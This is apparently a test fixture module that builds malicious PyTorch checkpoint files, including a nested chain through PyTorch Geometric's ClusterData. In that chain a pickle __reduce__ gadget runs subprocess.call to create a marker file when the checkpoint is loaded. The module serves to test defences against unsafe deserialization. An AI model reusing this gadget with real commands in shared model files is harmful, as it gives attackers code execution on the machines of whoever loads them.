"""Files of `torch.save` made to run something, by the ways that its readers know."""

from __future__ import annotations

import subprocess
import zipfile
from pathlib import Path
from typing import Any

import torch


class Call:
    """Pickles as a call of a function: what an attacker puts into a file."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.reduced = (function, arguments)

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.reduced


def write_attack(folder: Path, marker: Path) -> Path:
    """`graph.pt`, which names a class of PyG that unpickles `part_2/metis.pt`, which would create `marker`."""
    from torch_geometric.data import Data
    from torch_geometric.loader import ClusterData

    (folder / "part_2").mkdir(exist_ok=True)
    torch.save(Call(subprocess.call, ["touch", str(marker)]), folder / "part_2" / "metis.pt")
    data = Data(x=torch.eye(3), edge_index=torch.tensor([[0, 1, 2], [1, 2, 0]]), y=torch.tensor([0, 1, 0]))
    torch.save(Call(ClusterData, data, 2, False, str(folder), "metis.pt"), folder / "graph.pt")
    return folder / "graph.pt"


def write_program(path: Path, program: bytes, **members: bytes) -> Path:
    """A file of `torch.save` that holds this pickle, and storages by their keys."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("graph/data.pkl", program)
        for key, content in members.items():
            archive.writestr(f"graph/data/{key}", content)
    return path
